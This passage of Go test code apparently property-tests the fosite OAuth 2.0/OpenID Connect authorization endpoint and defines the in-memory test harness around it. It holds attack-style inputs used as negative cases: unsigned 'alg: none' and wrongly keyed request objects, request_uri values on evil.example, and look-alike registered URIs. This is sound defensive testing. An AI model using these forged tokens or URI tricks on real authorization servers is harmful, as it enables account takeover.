		w.AddClient(other, "x")
		if keySource == "jwks_uri" && rapid.Bool().Draw(rt, "neighbourUsesRequestObjectFirst") {
			// the other client sends a request object of its own first: its key set is in the fetcher's cache now
			o := h.MustSignJWT(h.RSAKey(2), "RS256", "rsa-1", map[string]interface{}{"state": "neighbour-state-0123", "nonce": "neighbour-nonce-0123", "iss": "other13", "aud": h.Issuer, "response_type": "code", "client_id": "other13"})
			r := w.Authorize(url.Values{"client_id": {"other13"}, "response_type": {"code"}, "scope": {"openid"}, "state": {"neighbour-state-0123"}, "nonce": {"neighbour-nonce-0123"}, "redirect_uri": {"https://rp.example/cb"}, "request": {o}}, h.Consent{})
			if r.Code != "" && r.State == "neighbour-state-0123" {
				h.Label("neighbour-uses-request-object-first")
			} else {
				rt.Logf("the other client's own request object was not honoured: %v %s", r.Err, r.Err.Hint)
			}
		}

		// ---- request
		clientID := "c13"
		if rapid.IntRange(0, 9).Draw(rt, "unknownClient") == 0 {
			clientID = "nobody"
		}
		rtype := rapid.SampledFrom([]string{"code", "code", "token", "id_token", "code token", "token code", "code id_token", "id_token code", "id_token token", "code id_token token", "token id_token code", "code code", "CODE", "Code Token", "code foo", "", "none", "id_token  token"}).Draw(rt, "response_type")
		mode := rapid.SampledFrom([]string{"", "", "query", "fragment", "form_post", "web_message", "QUERY"}).Draw(rt, "response_mode")
		state := rapid.SampledFrom(c13States).Draw(rt, "state")
		nonce := rapid.SampledFrom([]string{"", "1234", "12345", "1234567", "12345678", "12345678901", "123456789012", "nonce-0123456789", "1234567890123456789", "12345678901234567890"}).Draw(rt, "nonce")
		openid := rapid.Bool().Draw(rt, "openid") || strings.Contains(strings.ToLower(rtype), "id_token")
		withRedirect := rapid.IntRange(0, 4).Draw(rt, "withRedirect") != 0
		scope := "a"
		if openid {
			scope = "openid a"
		}
		q := url.Values{"client_id": {clientID}, "scope": {scope}}
		if rtype != "" {
			q.Set("response_type", rtype)
		}
		if mode != "" {
			q.Set("response_mode", mode)
		}
		if state != "" {
			q.Set("state", state)
		}
		if nonce != "" {
			q.Set("nonce", nonce)
		}
		if withRedirect {
			q.Set("redirect_uri", redirectURI)
		}
		// ---- optional request object
		objKind := "none"
		objState := ""
		objOK := h.Yes // may parameters of the object be honoured?
		if openid && rapid.IntRange(0, 2).Draw(rt, "withRequestObject") == 0 {
			objKind = rapid.SampledFrom([]string{"rs256-registered", "rs256-registered", "es256-registered", "rs256-unregistered", "rs256-other-clients-key", "alg-none", "hs256", "garbage", "rs256-wrong-kid"}).Draw(rt, "requestObject")
			objState = "object-state-" + rapid.StringMatching("[a-z]{8}").Draw(rt, "objState")
			if rapid.IntRange(0, 3).Draw(rt, "shortObjectState") == 0 {
				// the state that is validated must be the state that is used: a signed object may carry a short one
				objState = rapid.SampledFrom([]string{"x", "o1", "obj4567"}).Draw(rt, "shortState")
				h.Label("request-object-with-short-state")
			}
			claims := map[string]interface{}{"state": objState, "nonce": "object-nonce-0123456789", "iss": "c13", "aud": h.Issuer, "response_type": rtype, "client_id": "c13"}
			var obj string
			alg := ""
			switch objKind {
			case "rs256-registered":
				obj, alg = h.MustSignJWT(h.RSAKey(1), "RS256", "rsa-1", claims), "RS256"
			case "es256-registered":
				obj, alg = h.MustSignJWT(h.ECKey("P-256"), "ES256", "ec-1", claims), "ES256"
			case "rs256-unregistered":
				obj, alg = h.MustSignJWT(h.RSAKey(0), "RS256", "rsa-1", claims), "RS256"
				objOK = h.No
			case "rs256-other-clients-key":
				obj, alg = h.MustSignJWT(h.RSAKey(2), "RS256", "rsa-1", claims), "RS256"
				objOK = h.No
			case "rs256-wrong-kid":
				obj, alg = h.MustSignJWT(h.RSAKey(1), "RS256", "no-such-kid", claims), "RS256"
				objOK = h.Unspecified
			case "alg-none":
				obj, alg = h.UnsignedJWT(map[string]interface{}{"alg": "none", "typ": "JWT"}, claims, ""), "none"
			case "hs256":
				s, _ := h.SignJWT([]byte("0123456789abcdef0123456789abcdef"), "HS256", "", claims, nil)
				obj, alg = s, "HS256"
				objOK = h.No
			case "garbage":
				obj, alg = "not.a.jwt", "?"
				objOK = h.No
			}
			if objOK == h.Yes {
				switch {
				case regAlg != "" && regAlg != alg:
					objOK = h.No // algorithm not the registered one
				case alg == "none" && !(regAlg == "none" || regAlg == ""):
					objOK = h.No
				}
			}
			via := rapid.SampledFrom([]string{"request", "request", "request_uri-registered", "request_uri-unregistered", "request_uri-near-miss"}).Draw(rt, "via")
			switch via {
			case "request":
				q.Set("request", obj)
			case "request_uri-registered":
				w.Docs["https://rp.example/request.jwt"] = obj
				q.Set("request_uri", "https://rp.example/request.jwt")
			case "request_uri-unregistered":
				w.Docs["https://evil.example/request.jwt"] = obj
				q.Set("request_uri", "https://evil.example/request.jwt")
				objOK = h.No
			case "request_uri-near-miss":
				// pre-registration is by exact string: a look-alike of the registered URI is not registered
				u := rapid.SampledFrom([]string{"https://rp.example/REQUEST.jwt", "https://rp.example/Request.JWT", "https://RP.example/request.jwt", "https://rp.example/request.jwt?v=2", "https://rp.example/request.jwt/", "https://rp.example/request.jwt.evil", "https://rp.example/request.jw", "https://rp.example//request.jwt"}).Draw(rt, "nearMissURI")
				w.Docs[u] = obj
				q.Set("request_uri", u)
				objOK = h.No
				h.Label("request_uri-near-miss")
			}
			objKind += "/" + via
		}
		res := w.Authorize(q, h.Consent{})
		delivered := res.Code != "" || res.Access != "" || res.IDToken != ""
		usedObject := objState != "" && res.State == objState
		effState := state
		effNonce := nonce
		if usedObject {
			effState, effNonce = objState, "object-nonce-0123456789"
		}
		desc := fmt.Sprintf("registration{types=%q grants=%q modes=%v public=%v objAlg=%q} request{client=%s type=%q mode=%q state=%q nonce=%q openid=%v redirect=%v object=%s} -> err=%v mode=%s code=%v access=%v id_token=%v state=%q", cl.ResponseTypes, cl.GrantTypes, cl.ResponseModes, cl.Public, regAlg, clientID, rtype, mode, state, nonce, openid, withRedirect, objKind, res.Err, res.Mode, res.Code != "", res.Access != "", res.IDToken != "", res.State)
		rt.Logf("%s", desc)

		// ---- reference conditions for acceptance
		var unmet []string
		fields := strings.Fields(rtype)
		dup := len(fields) != len(strings.Fields(setOf(rtype)))
		if clientID != "c13" {
			unmet = append(unmet, "client does not exist")
		}
		regMatch := false
		for _, r := range cl.ResponseTypes {
			if setOf(r) == setOf(rtype) && rtype != "" {
				regMatch = true
			}
		}
		caseVariant := rtype != strings.ToLower(rtype)
		if !regMatch && !caseVariant {
			unmet = append(unmet, "response_type not a registered combination")
		}
		if mode != "" && !modesRegistered[mode] {
			unmet = append(unmet, "response_mode not allowed for the client")
		}
		if mode == "web_message" && !modeExt {
			unmet = append(unmet, "response_mode not supported by the server")
		}
		if len(effState) < minLen {
			unmet = append(unmet, "state shorter than the minimum")
		}
		if openid && !withRedirect {
			unmet = append(unmet, "OpenID Connect request without redirect_uri")
		}
		hasID := strings.Contains(setOf(rtype), "id_token")
		if hasID && len(effNonce) < minLen {
			unmet = append(unmet, "ID token requested without a nonce of minimum length")
		}
		if usedObject && objOK == h.No {
			unmet = append(unmet, "request object not verifiable under the client's registration")
		}
		nontrivial := len(unmet) == 1 || (delivered && mode != "") || usedObject
		h.Case(fmt.Sprintf("C13/%d/%s/%s/%d/%d/%v/%v/%s/%v/%v", minParam, setOf(rtype), mode, len(state), len(nonce), openid, withRedirect, objKind, len(unmet), delivered), nontrivial, func() any {
			return map[string]any{"registered_types": cl.ResponseTypes, "grants": cl.GrantTypes, "registered_modes": cl.ResponseModes, "response_type": rtype, "response_mode": mode, "state": state, "nonce": nonce, "openid": openid, "redirect_uri": withRedirect, "request_object": objKind, "unmet": unmet, "delivered": delivered, "result": res.Err.String()}
		})
		if delivered {
			h.Label("accepted")
			if mode != "" {
				h.Label("accepted-mode=" + mode)
			}
		} else {
			h.Label("refused")
		}
		if usedObject {
			h.Label("request-object-honoured")
		}
		if len(unmet) == 1 {
			h.Label("one-rule-unmet:" + unmet[0])
		}
		if delivered && len(unmet) > 0 && !dup {
			h.Violate(rt, "C13/accepted-invalid-request", "authorization endpoint accepted a request although: %v\n%s", unmet, desc)
		}
		// request-object parameters honoured only if verifiable (also when the request then fails for another reason
		// the state of an unverifiable object must not be echoed)
		if usedObject && objOK == h.No {
			h.Violate(rt, "C13/unverified-request-object-honoured", "parameters of an unverifiable request object were used (state %q echoed)\n%s", objState, desc)
		}
		// tokens never in the query string
		if res.Location != "" {
			loc := res.Location
			if i := strings.IndexByte(loc, '#'); i >= 0 {
				loc = loc[:i]
			}
			if i := strings.IndexByte(loc, '?'); i >= 0 {
				qv, _ := url.ParseQuery(loc[i+1:])
				if qv.Get("access_token") != "" || qv.Get("id_token") != "" {
					h.Violate(rt, "C13/token-in-query", "access_token / id_token delivered in the query string: %s\n%s", res.Location, desc)
				}
			}
		}
		// implicit grant required for access tokens (and for the pure implicit ID token) from the authorization endpoint
		hasImplicit := cl.GetGrantTypes().Has("implicit") // effective registration (an empty list means authorization_code only)
		if !hasImplicit && res.Access != "" {
			h.Violate(rt, "C13/access-token-without-implicit-grant", "client without the implicit grant received an access token from the authorization endpoint\n%s", desc)
		}
		if !hasImplicit && res.IDToken != "" && res.Code == "" {
			h.Violate(rt, "C13/id-token-without-implicit-grant", "client without the implicit grant received an ID token through the implicit flow\n%s", desc)
		}
		// state echoed unchanged on success and on redirected errors
		redirected := res.Location != "" || res.Mode == "form_post"
		if redirected && !usedObject && objState == "" {
			if res.State != state {
				h.Violate(rt, "C13/state-not-echoed", "state sent %q, echoed %q (mode %s)\n%s", state, res.State, res.Mode, desc)
			}
		}
		// the same rule through a pushed authorization request: the state that was validated (and is echoed) is the
		// pushed one, whatever travels next to the request_uri on the front channel
		if clientID == "c13" && rapid.IntRange(0, 3).Draw(rt, "viaPAR") == 0 {
			pushState := rapid.SampledFrom(c13States).Draw(rt, "pushedState")
			pf := url.Values{"client_id": {"c13"}, "response_type": {"code"}, "redirect_uri": {redirectURI}, "scope": {"a"}}
			if pushState != "" {
				pf.Set("state", pushState)
			}
			pauth := w.BasicFor("c13")
			if cl.Public {
				pauth = h.Auth{}
			}
			pr := w.PAR(pf, pauth)
			effPush := strings.TrimSpace(pushState)
			_ = effPush
			if pr.RequestURI != "" {
				h.Label("par-push-accepted")
				if len(pushState) < minLen {
					h.Violate(rt, "C13/accepted-invalid-request", "the push endpoint accepted a state of %d characters (minimum %d): %q", len(pushState), minLen, pushState)
				}
				front := rapid.SampledFrom([]string{"", "x", "front-channel-state-0123456789"}).Draw(rt, "frontChannelState")
				uq := url.Values{"client_id": {"c13"}, "request_uri": {pr.RequestURI}}
				if front != "" {
					uq.Set("state", front)
				}
				frontMode := rapid.SampledFrom([]string{"", "", "fragment", "form_post"}).Draw(rt, "frontChannelResponseMode")
				if frontMode != "" {
					uq.Set("response_mode", frontMode)
				}
				r2 := w.Authorize(uq, h.Consent{})
				if frontMode != "" && !modesRegistered[frontMode] && r2.Mode == frontMode && (r2.Code != "" || r2.Location != "" || r2.Mode == "form_post") {
					h.Violate(rt, "C13/response-mode-not-registered", "the client may not use response_mode=%s (registered %v), the push named none, the front channel asked for it: the response was delivered as %s", frontMode, cl.ResponseModes, r2.Mode)
				}
				if (r2.Location != "" || r2.Mode == "form_post") && r2.State != pushState {
					h.Violate(rt, "C13/state-not-echoed", "state pushed %q, front channel sent %q, response echoes %q (%v)", pushState, front, r2.State, r2.Err)
				}
			}
		}
		// a client lacking authorization_code can never turn a code into tokens
		if res.Code != "" {
			form := url.Values{"grant_type": {"authorization_code"}, "code": {res.Code}, "redirect_uri": {redirectURI}}
			auth := w.BasicFor("c13")
			if cl.Public {
				auth = h.Auth{}
				form.Set("client_id", "c13")
			}
			tr := w.Token(form, auth, h.TokenOpts{})
			if !cl.GetGrantTypes().Has("authorization_code") {
				h.Label("code-for-client-without-authorization_code-grant")
				if tr.OK() || tr.Access != "" {
					h.Violate(rt, "C13/code-redeemed-without-grant", "client without the authorization_code grant turned a code into tokens\n%s", desc)
				}
			}
		}
	})
	h.MarkCompleted()
}
