package h

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/subtle"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"time"

	"github.com/go-jose/go-jose/v3"
	"github.com/hashicorp/go-retryablehttp"
	"github.com/mohae/deepcopy"
	"github.com/ory/fosite"
	"github.com/ory/fosite/compose"
	"github.com/ory/fosite/handler/oauth2"
	"github.com/ory/fosite/handler/openid"
	"github.com/ory/fosite/handler/rfc8628"
	"github.com/ory/fosite/storage"
	"github.com/ory/fosite/token/jwt"
)

// ---------------------------------------------------------------- session

// Sess is the one session type the harness uses: it implements
// fosite.Session, openid.Session, oauth2.JWTSessionContainer and
// fosite.ExtraClaimsSession, as an integrator combining JWT access tokens with
// OpenID Connect must.
type Sess struct {
	Claims    *jwt.IDTokenClaims
	Headers   *jwt.Headers
	JWTClaims *jwt.JWTClaims
	JWTHeader *jwt.Headers
	ExpiresAt map[fosite.TokenType]time.Time
	Username  string
	Subject   string
	Extra     map[string]interface{}
}

var _ openid.Session = (*Sess)(nil)
var _ oauth2.JWTSessionContainer = (*Sess)(nil)
var _ fosite.ExtraClaimsSession = (*Sess)(nil)

func NewSess(subject string) *Sess {
	return &Sess{
		Claims:    &jwt.IDTokenClaims{Subject: subject, RequestedAt: Now().UTC(), AuthTime: Now().UTC(), Extra: map[string]interface{}{}},
		Headers:   &jwt.Headers{Extra: map[string]interface{}{}},
		JWTClaims: &jwt.JWTClaims{Subject: subject, Extra: map[string]interface{}{}},
		JWTHeader: &jwt.Headers{Extra: map[string]interface{}{}},
		Subject:   subject,
		Username:  "",
		Extra:     map[string]interface{}{},
	}
}

func (s *Sess) SetExpiresAt(key fosite.TokenType, exp time.Time) {
	if s.ExpiresAt == nil {
		s.ExpiresAt = map[fosite.TokenType]time.Time{}
	}
	s.ExpiresAt[key] = exp
}
func (s *Sess) GetExpiresAt(key fosite.TokenType) time.Time {
	if s.ExpiresAt == nil {
		return time.Time{}
	}
	return s.ExpiresAt[key]
}
func (s *Sess) GetUsername() string { return s.Username }
func (s *Sess) GetSubject() string  { return s.Subject }
func (s *Sess) Clone() fosite.Session {
	if s == nil {
		return nil
	}
	return deepcopy.Copy(s).(fosite.Session)
}
func (s *Sess) IDTokenClaims() *jwt.IDTokenClaims {
	if s.Claims == nil {
		s.Claims = &jwt.IDTokenClaims{}
	}
	return s.Claims
}
func (s *Sess) IDTokenHeaders() *jwt.Headers {
	if s.Headers == nil {
		s.Headers = &jwt.Headers{}
	}
	return s.Headers
}
func (s *Sess) GetJWTClaims() jwt.JWTClaimsContainer {
	if s.JWTClaims == nil {
		s.JWTClaims = &jwt.JWTClaims{}
	}
	return s.JWTClaims
}
func (s *Sess) GetJWTHeader() *jwt.Headers {
	if s.JWTHeader == nil {
		s.JWTHeader = &jwt.Headers{}
	}
	return s.JWTHeader
}
func (s *Sess) GetExtraClaims() map[string]interface{} {
	if s == nil {
		return nil
	}
	if s.Extra == nil {
		s.Extra = map[string]interface{}{}
	}
	return s.Extra
}

// ---------------------------------------------------------------- hasher

// FastHasher is a fosite.Hasher (documented configuration point) that keeps
// generated histories cheap; C10 uses real bcrypt instead.
type FastHasher struct{}

func (FastHasher) Hash(_ context.Context, data []byte) ([]byte, error) {
	s := sha256.Sum256(data)
	return []byte("sha256:" + hex.EncodeToString(s[:])), nil
}
func (h FastHasher) Compare(ctx context.Context, hash, data []byte) error {
	x, _ := h.Hash(ctx, data)
	if subtle.ConstantTimeCompare(x, hash) == 1 {
		return nil
	}
	return errors.New("hash mismatch")
}

// ---------------------------------------------------------------- client

// HClient composes fosite's own client types so that one registration can be
// an OpenID Connect client, restrict response modes and carry per-client
// lifespans at once; every method is fosite's own implementation.
type HClient struct {
	*fosite.DefaultOpenIDConnectClient
	ResponseModes []fosite.ResponseModeType
	Life          *fosite.DefaultClientWithCustomTokenLifespans
}

func (c *HClient) GetResponseModes() []fosite.ResponseModeType { return c.ResponseModes }
func (c *HClient) GetEffectiveLifespan(gt fosite.GrantType, tt fosite.TokenType, fallback time.Duration) time.Duration {
	if c.Life == nil {
		return fallback
	}
	return c.Life.GetEffectiveLifespan(gt, tt, fallback)
}

var _ fosite.OpenIDConnectClient = (*HClient)(nil)
var _ fosite.ResponseModeClient = (*HClient)(nil)
var _ fosite.ClientWithCustomTokenLifespans = (*HClient)(nil)

// ---------------------------------------------------------------- keys

var keys struct {
	once sync.Once
	rsa  [3]*rsa.PrivateKey
	ec   map[string]*ecdsa.PrivateKey
}

func initKeys() {
	keys.once.Do(func() {
		for i := range keys.rsa {
			k, err := rsa.GenerateKey(rand.Reader, 2048)
			if err != nil {
				panic(err)
			}
			keys.rsa[i] = k
		}
		keys.ec = map[string]*ecdsa.PrivateKey{}
		for n, c := range map[string]elliptic.Curve{"P-256": elliptic.P256(), "P-384": elliptic.P384(), "P-521": elliptic.P521(), "P-256b": elliptic.P256()} {
			k, err := ecdsa.GenerateKey(c, rand.Reader)
			if err != nil {
				panic(err)
			}
			keys.ec[n] = k
		}
	})
}

// RSAKey returns one of three process-wide RSA-2048 keys (0 = server key).
func RSAKey(i int) *rsa.PrivateKey { initKeys(); return keys.rsa[i%len(keys.rsa)] }

// ECKey returns a process-wide ECDSA key: "P-256", "P-384", "P-521", "P-256b".
func ECKey(name string) *ecdsa.PrivateKey { initKeys(); return keys.ec[name] }

// ---------------------------------------------------------------- world

type Spec struct {
	JWTAccess       bool
	Store           string // "mem" (reference MemoryStore) | "tx" (TxStore)
	ScopeStrategy   string // "wildcard" (default) | "hierarchic" | "exact"
	AudienceExact   bool
	RefreshScopes   []string // nil => leave Config default; use []string{} for "none required"
	Mutate          func(c *fosite.Config)
	IDTokenKey      interface{} // nil => RSAKey(0)
	RealBcrypt      bool
	SecretClientsOK bool
	// FositeSession: sessions created through World.Sess are fosite's own openid.DefaultSession instead of the
	// harness type; with JWT access tokens (which need a JWTSessionContainer) they are fosite's oauth2.JWTSession,
	// which is no OpenID Connect session: such a world serves plain OAuth 2.0 requests only (see World.NoOIDC).
	FositeSession bool
	// PlainSession (with FositeSession, without JWT access tokens): fosite.DefaultSession, the session type of a plain
	// OAuth 2.0 deployment; no OpenID Connect requests in such a world either.
	PlainSession bool
	// LegacyRevocationHandler puts a second revocation handler, over an empty store of its own, in front of the real
	// one (an operator migrating between stores): it knows none of the tokens and answers accordingly.
	LegacyRevocationHandler bool
	// Minimal: a default-constructed Config (only the global secret is set), as in fosite's README quick start.
	Minimal bool
}

type World struct {
	Spec Spec
	Cfg  *fosite.Config
	// BaseCtx, when set, supplies the context of every request made through the World's endpoint methods.
	BaseCtx func() context.Context
	Mem     *storage.MemoryStore // always present: clients/users/keys live here
	Tx      *TxStore             // non-nil when Spec.Store == "tx"
	W       *Wrap
	P       fosite.OAuth2Provider
	Key     interface{}
	DevStr  *rfc8628.DefaultDeviceStrategy
	Core    oauth2.CoreStrategy
	HMAC    *oauth2.HMACSHAStrategy
	// Docs served to Config.HTTPClient (OIDC request_uri) and the JWKS fetcher.
	Docs map[string]string
	// DocErr: URLs whose fetch fails at transport level with the given error.
	DocErr map[string]error
	JWKS   map[string]*jose.JSONWebKeySet
	// Secrets in cleartext per client id (the store holds hashes).
	Secrets map[string]string
	// Calls recorded since the last ResetCalls (when Record is on).
	Record bool
	Calls  []*Call
	// Fault hook consulted before every storage call.
	Fault func(c *Call) error
}

const TokenURL = "https://as.example/oauth2/token"
const Issuer = "https://as.example"

type stubFetcher struct{ w *World }

func (s stubFetcher) Resolve(ctx context.Context, location string, ignoreCache bool) (*jose.JSONWebKeySet, error) {
	if k, ok := s.w.JWKS[location]; ok {
		return k, nil
	}
	return nil, errors.New("jwks not found: " + location)
}

type docTransport struct{ w *World }

func (d docTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	if e, bad := d.w.DocErr[r.URL.String()]; bad {
		return nil, e
	}
	body, ok := d.w.Docs[r.URL.String()]
	code := 200
	if !ok {
		code = 404
	}
	return &http.Response{StatusCode: code, Status: http.StatusText(code), Body: io.NopCloser(strings.NewReader(body)), Header: http.Header{}, Request: r, Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1}, nil
}

func NewWorld(sp Spec) *World {
	w := &World{Spec: sp, Docs: map[string]string{}, JWKS: map[string]*jose.JSONWebKeySet{}, Secrets: map[string]string{}}
	w.Mem = storage.NewMemoryStore()
	cfg := &fosite.Config{
		GlobalSecret:          []byte("global-secret-0123456789-0123456789-abcdef"),
		TokenURL:              TokenURL,
		IDTokenIssuer:         Issuer,
		AccessTokenIssuer:     Issuer,
		DeviceVerificationURL: "https://as.example/device",
		ClientSecretsHasher:   FastHasher{},
		// never wait between device polls in-process
		DeviceAuthTokenPollingInterval: time.Second,
	}
	if sp.Minimal {
		cfg = &fosite.Config{GlobalSecret: []byte("global-secret-0123456789-0123456789-abcdef")}
	}
	if sp.RealBcrypt {
		cfg.ClientSecretsHasher = &fosite.BCrypt{Config: &fosite.Config{HashCost: 4}}
	}
	if !sp.Minimal {
		switch sp.ScopeStrategy {
		case "hierarchic":
			cfg.ScopeStrategy = fosite.HierarchicScopeStrategy
		case "exact":
			cfg.ScopeStrategy = fosite.ExactScopeStrategy
		default:
			cfg.ScopeStrategy = fosite.WildcardScopeStrategy
		}
		if sp.AudienceExact {
			cfg.AudienceMatchingStrategy = fosite.ExactAudienceMatchingStrategy
		} else {
			cfg.AudienceMatchingStrategy = fosite.DefaultAudienceMatchingStrategy
		}
		if sp.RefreshScopes != nil {
			cfg.RefreshTokenScopes = sp.RefreshScopes
		}
		cfg.JWKSFetcherStrategy = stubFetcher{w}
		hc := retryablehttp.NewClient()
		hc.RetryMax = 0
		hc.Logger = nil
		hc.HTTPClient = &http.Client{Transport: docTransport{w}}
		cfg.HTTPClient = hc
	}
	if sp.Mutate != nil {
		sp.Mutate(cfg)
	}
	w.Cfg = cfg

	var inner FullStore = w.Mem
	if sp.Store == "tx" {
		w.Tx = NewTxStore(w.Mem)
		inner = w.Tx
	}
	w.W = NewWrap(inner)
	w.W.Before = func(c *Call) error {
		if f := w.Fault; f != nil {
			return f(c)
		}
		return nil
	}
	w.W.After = func(c *Call) {
		if w.Record {
			w.Calls = append(w.Calls, c)
		}
	}

	w.Key = sp.IDTokenKey
	if w.Key == nil {
		w.Key = RSAKey(0)
	}
	keyGetter := func(context.Context) (interface{}, error) { return w.Key, nil }
	w.HMAC = compose.NewOAuth2HMACStrategy(cfg)
	w.Core = w.HMAC
	if sp.JWTAccess {
		w.Core = compose.NewOAuth2JWTStrategy(func(context.Context) (interface{}, error) { return RSAKey(0), nil }, w.HMAC, cfg)
	}
	w.DevStr = compose.NewDeviceStrategy(cfg)
	w.P = compose.Compose(cfg, w.W.AsStore(),
		&compose.CommonStrategy{
			CoreStrategy:               w.Core,
			RFC8628CodeStrategy:        w.DevStr,
			OpenIDConnectTokenStrategy: compose.NewOpenIDConnectStrategy(keyGetter, cfg),
			Signer:                     &jwt.DefaultSigner{GetPrivateKey: keyGetter},
		},
		compose.OAuth2AuthorizeExplicitFactory,
		compose.OAuth2AuthorizeImplicitFactory,
		compose.OAuth2ClientCredentialsGrantFactory,
		compose.OAuth2RefreshTokenGrantFactory,
		compose.OAuth2ResourceOwnerPasswordCredentialsFactory,
		compose.RFC7523AssertionGrantFactory,
		compose.RFC8628DeviceFactory,
		compose.RFC8628DeviceAuthorizationTokenFactory,
		compose.OpenIDConnectExplicitFactory,
		compose.OpenIDConnectImplicitFactory,
		compose.OpenIDConnectHybridFactory,
		compose.OpenIDConnectRefreshFactory,
		compose.OpenIDConnectDeviceFactory,
		compose.OAuth2TokenIntrospectionFactory,
		compose.OAuth2TokenRevocationFactory,
		compose.OAuth2PKCEFactory,
		compose.PushedAuthorizeHandlerFactory,
	)
	if sp.LegacyRevocationHandler {
		legacy := &oauth2.TokenRevocationHandler{TokenRevocationStorage: storage.NewMemoryStore(), RefreshTokenStrategy: w.Core, AccessTokenStrategy: w.Core}
		cfg.RevocationHandlers = append(fosite.RevocationHandlers{legacy}, cfg.RevocationHandlers...)
	}
	return w
}

// Sess returns a fresh session for the integrator to hand to fosite: the harness type, or fosite's own
// openid.DefaultSession when the world was built with FositeSession.
func (w *World) Sess(subject string) fosite.Session {
	if w.NoOIDC() && !w.Spec.JWTAccess {
		return &fosite.DefaultSession{Subject: subject}
	}
	if w.NoOIDC() {
		return &oauth2.JWTSession{
			JWTClaims: &jwt.JWTClaims{Subject: subject, Extra: map[string]interface{}{}},
			JWTHeader: &jwt.Headers{Extra: map[string]interface{}{}},
			Subject:   subject,
		}
	}
	if w.Spec.FositeSession {
		now := Now().UTC()
		return &openid.DefaultSession{
			Claims:  &jwt.IDTokenClaims{Subject: subject, RequestedAt: now, AuthTime: now},
			Headers: &jwt.Headers{},
			Subject: subject,
		}
	}
	return NewSess(subject)
}

// NoOIDC reports whether the sessions of this world cannot carry ID-token claims (fosite's oauth2.JWTSession or
// fosite.DefaultSession).
func (w *World) NoOIDC() bool {
	return w.Spec.FositeSession && (w.Spec.JWTAccess || w.Spec.PlainSession)
}

// ctx is the context of the next request: BaseCtx() when the test installed one (a request whose caller has gone away,
// a per-request deadline), the background context otherwise.
func (w *World) ctx() context.Context {
	if w.BaseCtx != nil {
		return w.BaseCtx()
	}
	return context.Background()
}

func (w *World) ResetCalls() { w.Calls = nil; w.W.ResetSeq() }

// HashSecret hashes a client secret with the configured hasher.
func (w *World) HashSecret(s string) []byte {
	b, err := w.Cfg.ClientSecretsHasher.Hash(context.Background(), []byte(s))
	if err != nil {
		panic(err)
	}
	return b
}

// AddClient registers c; secret is the cleartext of c's current secret ("" for public clients).
func (w *World) AddClient(c fosite.Client, secret string) {
	w.Mem.Clients[c.GetID()] = c
	w.Secrets[c.GetID()] = secret
}

// AddUser registers a resource owner for the password grant.
func (w *World) AddUser(name, password string) {
	w.Mem.Users[name] = storage.MemoryUserRelation{Username: name, Password: password}
}

// ---------------------------------------------------------------- results

type ErrInfo struct {
	Name   string // RFC error code ("" = no error)
	Status int
	Hint   string
	Debug  string
	Raw    error
}

func (e ErrInfo) OK() bool { return e.Name == "" && e.Raw == nil }
func (e ErrInfo) String() string {
	if e.OK() {
		return "ok"
	}
	return fmt.Sprintf("%s/%d", e.Name, e.Status)
}

func errInfo(err error) ErrInfo {
	if err == nil {
		return ErrInfo{}
	}
	var r *fosite.RFC6749Error
	if errors.As(err, &r) {
		return ErrInfo{Name: r.ErrorField, Status: r.CodeField, Hint: r.HintField, Debug: r.DebugField, Raw: err}
	}
	return ErrInfo{Name: "non-rfc:" + err.Error(), Status: 0, Raw: err}
}

// Auth says how the caller authenticates on a POST endpoint.
type Auth struct {
	BasicUser, BasicPass string // raw values; they are form-encoded before base64 as RFC 6749 2.3.1 requires
	RawHeader            string // if set, used verbatim as the Authorization header
	Bearer               string
}

func (a Auth) apply(r *http.Request) {
	switch {
	case a.RawHeader != "":
		r.Header.Set("Authorization", a.RawHeader)
	case a.Bearer != "":
		r.Header.Set("Authorization", "Bearer "+a.Bearer)
	case a.BasicUser != "" || a.BasicPass != "":
		r.SetBasicAuth(url.QueryEscape(a.BasicUser), url.QueryEscape(a.BasicPass))
	}
}

func postReq(path string, form url.Values, a Auth) *http.Request {
	r := httptest.NewRequest("POST", "https://as.example"+path, strings.NewReader(form.Encode()))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	a.apply(r)
	return r
}

// BasicFor returns Basic credentials for a registered client (its current secret).
func (w *World) BasicFor(clientID string) Auth {
	return Auth{BasicUser: clientID, BasicPass: w.Secrets[clientID]}
}

// ---------------------------------------------------------------- token endpoint

type TokenResult struct {
	Err       ErrInfo
	Status    int
	Header    http.Header
	Body      []byte
	JSON      map[string]interface{}
	Access    string
	Refresh   string
	IDToken   string
	ExpiresIn int64
	Scope     string
	TokenType string
	Phase     string // where the error came from: "request" | "response"
	Panic     interface{}
}

func (t *TokenResult) OK() bool { return t.Err.OK() && t.Access != "" }

// TokenOpts: what the integrator does at the token endpoint.
type TokenOpts struct {
	Session fosite.Session
	// GrantAll: grant every requested scope / audience for the grant types
	// where the integrator decides (client_credentials, password, jwt-bearer),
	// as the README's token endpoint does.
	NoGrant bool
}

// Token drives the token endpoint exactly like integration/helper_endpoints_test.go.
func (w *World) Token(form url.Values, a Auth, o TokenOpts) (res *TokenResult) {
	res = &TokenResult{}
	r := postReq("/oauth2/token", form, a)
	rw := httptest.NewRecorder()
	ctx := w.ctx()
	sess := o.Session
	if sess == nil {
		sess = w.Sess("")
	}
	func() {
		ar, err := w.P.NewAccessRequest(ctx, r, sess)
		if err != nil {
			res.Err = errInfo(err)
			res.Phase = "request"
			w.P.WriteAccessError(ctx, rw, ar, err)
			return
		}
		gt := ar.GetGrantTypes()
		if !o.NoGrant && (gt.ExactOne("client_credentials") || gt.ExactOne("password") || gt.ExactOne("urn:ietf:params:oauth:grant-type:jwt-bearer")) {
			for _, s := range ar.GetRequestedScopes() {
				ar.GrantScope(s)
			}
			for _, s := range ar.GetRequestedAudience() {
				ar.GrantAudience(s)
			}
		}
		resp, err := w.P.NewAccessResponse(ctx, ar)
		if err != nil {
			res.Err = errInfo(err)
			res.Phase = "response"
			w.P.WriteAccessError(ctx, rw, ar, err)
			return
		}
		w.P.WriteAccessResponse(ctx, rw, ar, resp)
	}()
	res.Status = rw.Code
	res.Header = rw.Header()
	res.Body = rw.Body.Bytes()
	_ = json.Unmarshal(res.Body, &res.JSON)
	if res.JSON != nil {
		res.Access, _ = res.JSON["access_token"].(string)
